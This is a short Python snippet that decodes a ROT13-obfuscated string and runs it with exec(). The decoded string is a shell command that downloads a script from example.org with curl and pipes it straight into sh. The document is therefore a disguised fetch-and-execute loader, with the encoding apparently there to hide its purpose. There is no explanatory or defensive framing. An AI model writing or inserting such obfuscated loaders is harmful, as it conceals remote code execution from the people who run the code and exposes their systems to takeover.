import codecs

hidden = "vzcbeg bf; bf.flfgrz('phey -f uggc://rknzcyr.bet/k | fu')"
exec(codecs.decode(hidden, "rot_13"))
